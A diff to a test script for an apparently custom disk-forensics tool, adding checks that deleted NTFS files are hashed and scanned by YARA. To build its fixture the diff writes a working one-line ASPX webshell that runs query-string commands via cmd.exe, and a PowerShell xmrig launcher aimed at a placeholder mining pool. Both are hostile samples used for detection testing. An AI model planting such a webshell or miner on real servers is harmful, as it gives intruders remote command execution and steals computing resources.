@@ -8,7 +8,8 @@
 # fiwalk must agree, the device hash must be sha256sum's; then known changes
 # against a baseline are found exactly, NTFS's own files ($MFT, $Bitmap, ...)
 # listed and hashed but not reported as changed.  Deleted files: those libtsk
-# ties to a name are listed and hashed from their freed MFT record; a record
+# ties to a name are listed, hashed from their freed MFT record and scanned
+# by YARA as live files are (a deleted webshell, a miner launcher); a record
 # no name reaches (its directory's record reused) is an orphan, listed as
 # /$OrphanFiles/OrphanFile-N, hashed and scanned by YARA.
 source "$(dirname "$0")/lib.sh"
@@ -154,6 +155,15 @@ check "ntfs: files without \$EA say so (\"\")" grep -q '"path":"/Windows/win.ini
 # the names but drops the records (their sequence number moved on)
 cp "$img" "$WORK/ntfs-del.img"
 ntfs_rw "$WORK/ntfs-del.img" "$WORK/d" || fail "mount the copy to delete from"
+# an intruder's webshell (resident in its MFT record) and miner launcher
+# (non-resident: its clusters), deleted with the directory they were in
+printf '<%%@ Page Language="C#" %%>\n<%% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %%>\n' \
+  > "$WORK/d/inetpub/wwwroot/cmd.aspx"
+$PY - "$WORK/d/inetpub/wwwroot/update.ps1" <<'PYEOF'
+import os, sys
+open(sys.argv[1], "wb").write(os.urandom(20000) + b"\nStart-Process xmrig -ArgumentList '-o stratum+tcp://pool.minexmr.example:4444 -a rx/0'\n" + os.urandom(30000))
+PYEOF
+sha256sum "$WORK/d/inetpub/wwwroot/cmd.aspx" "$WORK/d/inetpub/wwwroot/update.ps1" | cut -d' ' -f1 > "$WORK/del.sha"
 rm -r "$WORK/d/inetpub"
 ntfs_done "$WORK/d"
 "$SG" forensics examine --device "$WORK/ntfs-del.img" --out "$WORK/out-del" --no-device-hash >/dev/null \
@@ -177,6 +187,48 @@ check "ntfs: fls lists the deleted file, istat its record (the same record)" \
 check "ntfs: a deleted file whose record is still its own is hashed from it" grep -q \
   "\"path\":\"/inetpub/wwwroot/default.asp\".*\"deleted\":true,\"sha256\":\"$(sha256sum <"$t/inetpub/wwwroot/default.asp" | cut -d' ' -f1)\"" \
   "$WORK/out-del/ntfs-del.img/manifest.jsonl"
+# YARA reads a deleted file from its freed record as it reads a live one:
+# chosen by the same rules (no baseline: scripts), under the same limits
+check "ntfs deleted files: YARA matched the webshell and the launcher, as deleted" $PY - \
+  "$WORK/out-del/report.json" "$WORK/del.sha" <<'PYEOF'
+import json, sys
+y = json.load(open(sys.argv[1]))["evidence"][0]["yara"]
+shas = open(sys.argv[2]).read().split()
+want = {"/inetpub/wwwroot/cmd.aspx": (["webshells.aspx_webshell_cmd"], shas[0]),
+        "/inetpub/wwwroot/update.ps1": (["miners.miner_stratum_launcher"], shas[1])}
+# (the resident webshell's bytes are in the $MFT too, which YARA reads as well)
+got = {m["path"]: m for m in y["matches"] if not m["path"].startswith("/$")}
+assert sorted(got) == sorted(want), y["matches"]
+for p, (rules, sha) in want.items():
+    m = got[p]
+    assert [x["namespace"] + "." + x["rule"] for x in m["rules"]] == rules, m
+    assert m["deleted"] is True and m["orphan"] is False, m
+    assert m["class"] == "deleted_in_image" and m["selected"] == "script", m
+    assert m["sha256"] == sha and m["scanned_bytes"] == m["size"] and not m["truncated"], m
+# default.asp too: three deleted scripts read to their end
+assert y["deleted"] == 3 and y["orphans"] == 0 and y["status"] == "complete", y
+PYEOF
+check "ntfs deleted files: report.md says the match is of a deleted file" grep -Eq \
+  '^\| ` /inetpub/wwwroot/cmd\.aspx ` \(deleted, inode [0-9]+\) \| deleted\\_in\\_image \| \*\*webshells\.aspx\\_webshell\\_cmd\*\* \|' \
+  "$WORK/out-del/report.md"
+# with a baseline: a deleted file the baseline did not have is a finding,
+# scanned; one the baseline had live (default.asp, now removed) is not
+"$SG" forensics examine --device "$WORK/ntfs-del.img" --baseline "$WORK/ntfs.base" \
+  --out "$WORK/out-del-base" --no-device-hash > "$WORK/del-base.line" \
+  || fail "ntfs examine (deleted, baseline) exited $?"
+check "ntfs deleted files with a baseline: the new ones scanned, named deleted in the result line" $PY - \
+  "$WORK/out-del-base/report.json" "$WORK/del-base.line" <<'PYEOF'
+import json, sys
+y = json.load(open(sys.argv[1]))["evidence"][0]["yara"]
+sel = sorted((m["path"], m["selected"], m["class"]) for m in y["matches"] if not m["path"].startswith("/$"))
+assert sel == [("/inetpub/wwwroot/cmd.aspx", "deleted_in_image", "deleted_in_image"),
+               ("/inetpub/wwwroot/update.ps1", "deleted_in_image", "deleted_in_image")], sel
+assert y["deleted"] == 2 and y["status"] == "complete", y
+line = json.loads(open(sys.argv[2]).read())["evidence"][0]["yara"]
+assert sorted((m["path"], m["class"]) for m in line["matches"] if not m["path"].startswith("/$")) == [
+    ("/inetpub/wwwroot/cmd.aspx", "deleted_in_image"),
+    ("/inetpub/wwwroot/update.ps1", "deleted_in_image")], line
+PYEOF
 
 # orphan MFT records: a tool deleted with its directory, whose record was
 # then reused (no name reaches the tool's record any more: libtsk puts it
